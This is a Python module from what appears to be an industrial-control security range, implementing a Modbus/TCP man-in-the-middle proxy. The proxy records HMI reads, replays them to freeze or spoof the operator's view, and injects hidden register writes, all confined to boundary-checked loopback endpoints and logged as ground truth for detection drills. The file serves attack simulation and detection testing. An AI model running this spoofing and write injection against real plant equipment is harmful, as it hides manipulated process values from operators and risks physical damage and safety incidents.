"""An adversary-in-the-middle Modbus/TCP proxy that records reads, then replays them (T0830).

The range models ARP poisoning by re-pointing its HMI poller at this proxy, which the attacker
runs on a loopback address. In the ``record`` phase the proxy forwards every request to the real
device and keeps each read response per ``(unit, function, address, count)``. After
:meth:`ReplayProxy.replay` it answers those reads itself from the recording, looping the recorded
responses in order and stamping the HMI's transaction id on them, so the operator keeps seeing
normal values (Spoof Reporting Message T0856, Manipulation of View T0832) while writes are still
forwarded and, with ``inject_writes``, the attacker's own writes go to the device unseen. With
``hold`` the proxy answers every recorded read with its *last* recorded response instead: the
HMI's view freezes (the cruder spoof, which a frozen-sensor check sees and a repeat check cannot).

Frames are parsed and re-framed with Interlock's Modbus codec rather than pymodbus: the proxy
must pass through whatever the HMI sends, byte for byte, and account for every frame it sends
itself (the Actions' ground truth).

Use::

    boundary.register("127.0.0.67", 15020, "attacker proxy")
    proxy = ReplayProxy(("127.0.0.67", 15020), (plc_host, plc_port), boundary=boundary,
                        inject_writes=[(3, 65000)])
    await proxy.start()          # record phase: the HMI now polls 127.0.0.67:15020
    ...
    proxy.replay()               # the HMI sees the recording; the writes are injected
    ...
    await proxy.close()
    truth = proxy.actions()      # mitm.record, mitm.replay, mitm.inject
"""

from __future__ import annotations

import asyncio
import contextlib
import time
from collections.abc import Callable, Coroutine, Sequence
from dataclasses import dataclass, field
from typing import Any

from interlock.drill.techniques.base import CONNECTION_REFUSED, NO_RESPONSE, OK, Action, Technique, technique
from interlock.drill.techniques.modbus import outcome_of
from interlock.protocols.base import Direction, Malformed
from interlock.protocols.modbus import (
    ExceptionResponse,
    ReadCoilsRequest,
    ReadDiscreteInputsRequest,
    ReadHoldingRegistersRequest,
    ReadInputRegistersRequest,
    WriteSingleRegisterRequest,
    build_adu,
    parse_mbap,
    parse_pdu,
)
from interlock.protocols.modbus.fields import MBAP_SIZE
from interlock.range.boundary import Boundary

RECORD_IDS = ("T0830",)
REPLAY_IDS = ("T0830", "T0856", "T0832")
INJECT_IDS = ("T0830", "T0836", "T0855")
_READS = (ReadCoilsRequest, ReadDiscreteInputsRequest, ReadHoldingRegistersRequest, ReadInputRegistersRequest)
ReadKey = tuple[int, int, int, int]  # unit, function code, address, count


@dataclass
class _Ledger:
    """What the proxy sent during one phase."""

    started: float
    ended: float | None = None
    source: str = ""
    frames: list[bytes] = field(default_factory=list)
    requests: int = 0
    responses: int = 0
    spoofed: int = 0
    outcomes: list[str] = field(default_factory=list)

    def sent(self, frame: bytes, *, request: bool = True) -> None:
        self.frames.append(frame)
        self.requests += request


def read_key(unit: int, pdu: object) -> ReadKey | None:
    if isinstance(pdu, _READS):
        fc = _READS.index(type(pdu)) + 1
        return unit, fc, pdu.address, pdu.quantity
    return None


async def read_adu(reader: asyncio.StreamReader, timeout: float | None = None) -> bytes:
    """One whole Modbus/TCP ADU (MBAP header and PDU) from a stream."""
    head = await asyncio.wait_for(reader.readexactly(MBAP_SIZE), timeout)
    mbap = parse_mbap(head)
    if isinstance(mbap, Malformed):
        raise ValueError(f"not Modbus/TCP: {mbap.detail}")
    return head + await asyncio.wait_for(reader.readexactly(mbap.length - 1), timeout)


class ReplayProxy:
    """Modbus/TCP proxy between an HMI and a device: record, then replay reads (see module doc).

    ``listen`` must have been registered in the boundary by the caller (so it is a loopback
    address this run owns); ``upstream`` is checked with ``boundary.check`` before the proxy
    opens any connection to it. Upstream connections leave from the listen host.
    """

    def __init__(self, listen: tuple[str, int], upstream: tuple[str, int], *, boundary: Boundary,
                 inject_writes: Sequence[tuple[int, int]] = (), unit: int | None = None,
                 now: Callable[[], float] = time.time, timeout_s: float = 2.0,
                 upstream_source: str | None = None, hold: bool = False) -> None:
        self.listen = listen
        self.hold = hold
        # ARP poisoning relays the victim's frames with the victim's own IP address; on loopback
        # the proxy does the same by binding its upstream side to that address when given.
        self.upstream_source = upstream_source
        self.upstream = upstream
        self.boundary = boundary
        self.inject_writes = tuple((int(a), int(v)) for a, v in inject_writes)
        self.unit = unit
        self.now = now
        self.timeout_s = timeout_s
        self.recording: dict[ReadKey, list[bytes]] = {}
        self._cursor: dict[ReadKey, int] = {}
        self._server: asyncio.Server | None = None
        self._tasks: set[asyncio.Task[None]] = set()
        self._writers: set[asyncio.StreamWriter] = set()
        self._record: _Ledger | None = None
        self._replay: _Ledger | None = None
        self._inject: _Ledger | None = None
        self._last_unit = 1
        self.clients: list[str] = []

    @property
    def replaying(self) -> bool:
        return self._replay is not None

    @property
    def address(self) -> tuple[str, int]:
        """The endpoint the proxy listens on (the real port when ``listen`` gave port 0)."""
        if self._server is not None and self._server.sockets:
            host, port = self._server.sockets[0].getsockname()[:2]
            return host, port
        return self.listen

    async def start(self) -> None:
        """Check both endpoints against the boundary, then listen (the record phase starts)."""
        self.boundary.check(*self.listen)
        self.boundary.check(*self.upstream)
        self._record = _Ledger(self.now())
        self._server = await asyncio.start_server(self._serve, self.listen[0], self.listen[1])

    def replay(self) -> None:
        """Switch to replay: recorded reads are answered from the recording from now on."""
        if self._replay is not None:
            return
        t = self.now()
        if self._record is not None:
            self._record.ended = t
        self._replay = _Ledger(t, source=f"{self.address[0]}:{self.address[1]}")
        if self.inject_writes:
            self._spawn(self._inject_writes())

    def _spawn(self, coro: Coroutine[Any, Any, None]) -> None:
        task = asyncio.ensure_future(coro)
        self._tasks.add(task)
        task.add_done_callback(self._tasks.discard)

    async def _connect_upstream(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        self.boundary.check(*self.upstream)  # again: nothing reaches an endpoint the run did not start
        return await asyncio.wait_for(asyncio.open_connection(
            self.upstream[0], self.upstream[1], local_addr=(self.upstream_source or self.listen[0], 0)),
            self.timeout_s)

    async def _exchange(self, ledger: _Ledger, adu: bytes, up_reader: asyncio.StreamReader,
                        up_writer: asyncio.StreamWriter) -> bytes | None:
        """Send ``adu`` upstream, kept in ``ledger``; the answer, or None after ``timeout_s`` (the
        ledger then holds ``no response``)."""
        ledger.sent(adu)
        up_writer.write(adu)
        await up_writer.drain()
        try:
            answer = await read_adu(up_reader, self.timeout_s)
        except TimeoutError:
            ledger.outcomes.append(NO_RESPONSE)
            return None
        ledger.responses += 1
        return answer

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        peer = writer.get_extra_info("peername")
        self.clients.append(f"{peer[0]}:{peer[1]}" if peer else "?")
        self._writers.add(writer)
        up_writer: asyncio.StreamWriter | None = None
        try:
            up_reader, up_writer = await self._connect_upstream()
            sock = up_writer.get_extra_info("sockname")
            if self._record is not None and not self._record.source and sock:
                self._record.source = f"{sock[0]}:{sock[1]}"
            while True:
                adu = await read_adu(reader)
                unit, tid = adu[6], int.from_bytes(adu[:2], "big")
                self._last_unit = unit
                key = read_key(unit, parse_pdu(adu[MBAP_SIZE:], Direction.REQUEST))
                replay = self._replay
                if replay is not None and key is not None and self.recording.get(key):
                    answers = self.recording[key]
                    i = self._cursor.get(key, 0)
                    self._cursor[key] = i + 1
                    recorded = answers[-1] if self.hold else answers[i % len(answers)]
                    spoof = build_adu(tid, unit, recorded)  # the HMI's transaction id
                    replay.sent(spoof, request=False)
                    replay.spoofed += 1
                    writer.write(spoof)
                    await writer.drain()
                    continue
                ledger = replay if replay is not None else self._record
                assert ledger is not None
                answer = await self._exchange(ledger, adu, up_reader, up_writer)
                if answer is None:
                    continue
                pdu = parse_pdu(answer[MBAP_SIZE:], Direction.RESPONSE)
                ledger.outcomes.append(outcome_of(pdu))
                if replay is None and key is not None and not isinstance(pdu, Malformed | ExceptionResponse):
                    self.recording.setdefault(key, []).append(answer[MBAP_SIZE:])
                writer.write(answer)
                await writer.drain()
        except (asyncio.IncompleteReadError, ConnectionError, OSError, ValueError, TimeoutError):
            pass  # the HMI or the device went away: this connection ends, the proxy stays
        finally:
            self._writers.discard(writer)
            for w in (writer, up_writer):
                if w is not None:
                    w.close()

    async def _inject_writes(self) -> None:
        """The attacker's own register writes, sent upstream while the HMI sees the replay."""
        ledger = self._inject = _Ledger(self.now())
        unit = self.unit if self.unit is not None else self._last_unit
        try:
            up_reader, up_writer = await self._connect_upstream()
        except ConnectionRefusedError:
            ledger.outcomes.append(CONNECTION_REFUSED)
            ledger.ended = self.now()
            return
        sock = up_writer.get_extra_info("sockname")
        ledger.source = f"{sock[0]}:{sock[1]}"
        try:
            for tid, (address, value) in enumerate(self.inject_writes, start=1):
                adu = build_adu(tid, unit, WriteSingleRegisterRequest(address, value))
                answer = await self._exchange(ledger, adu, up_reader, up_writer)
                if answer is None:
                    continue
                ledger.outcomes.append(outcome_of(parse_pdu(answer[MBAP_SIZE:], Direction.RESPONSE)))
        except (asyncio.IncompleteReadError, ConnectionError, OSError):
            ledger.outcomes.append("connection closed")
        finally:
            ledger.ended = self.now()
            up_writer.close()

    async def injected(self) -> None:
        """Wait until the injected writes (if any) are done."""
        if self._tasks:
            await asyncio.gather(*list(self._tasks), return_exceptions=True)

    async def close(self) -> None:
        """Stop listening, end every connection and finish the ledgers."""
        await self.injected()
        if self._server is not None:
            self._server.close()
            for w in list(self._writers):
                w.close()
            with contextlib.suppress(asyncio.TimeoutError):
                await asyncio.wait_for(self._server.wait_closed(), 2.0)
            self._server = None
        t = self.now()
        for ledger in (self._record, self._replay):
            if ledger is not None and ledger.ended is None:
                ledger.ended = t

    def _action(self, tid: str, ids: tuple[str, ...], ledger: _Ledger, detail: dict[str, object]) -> Action:
        bad = [o for o in ledger.outcomes if o != OK]
        return Action(
            technique=tid, attack_ids=ids, source=ledger.source or f"{self.listen[0]}:0",
            target=f"{self.upstream[0]}:{self.upstream[1]}", started=ledger.started,
            ended=ledger.ended if ledger.ended is not None else self.now(), requests=ledger.requests,
            responses=ledger.responses, bytes_sent=sum(map(len, ledger.frames)), frames=tuple(ledger.frames),
            outcome=bad[0] if bad else OK,
            detail={"clients": list(self.clients), **detail})

    def actions(self) -> list[Action]:
        """Ground truth so far: the record phase, the replay phase and the injected writes.

        ``mitm.record`` lists the requests forwarded to the device while recording;
        ``mitm.replay`` the spoofed responses sent to the HMI (``detail["spoofed"]``) and the
        requests still forwarded; ``mitm.inject`` the attacker's writes.
        """
        out = []
        if self._record is not None:
            keys = sorted(self.recording)
            out.append(self._action("mitm.record", RECORD_IDS, self._record,
                                    {"recorded": [list(k) for k in keys],
                                     "responses_recorded": sum(len(v) for v in self.recording.values())}))
        if self._replay is not None:
            out.append(self._action("mitm.replay", REPLAY_IDS, self._replay,
                                    {"spoofed": self._replay.spoofed, "forwarded": self._replay.requests,
                                     "hold": self.hold}))
        if self._inject is not None:
            out.append(self._action("mitm.inject", INJECT_IDS, self._inject,
                                    {"writes": [list(w) for w in self.inject_writes]}))
        return out


async def _not_standalone(ctx: object) -> list[Action]:
    raise ValueError("mitm.replay sits between the range's HMI and a device: the drill runner starts "
                     "a ReplayProxy (interlock.drill.techniques.mitm) and re-points the HMI to it")


TECHNIQUES: tuple[Technique, ...] = (
    technique("mitm.replay", REPLAY_IDS, "modbus", "Adversary-in-the-middle: record the HMI's reads, "
              "then replay them (or, with hold, the last one) while writes pass (or are injected)",
              {"record": 120.0, "inject_writes": (), "unit": None, "hold": False}, _not_standalone),
)
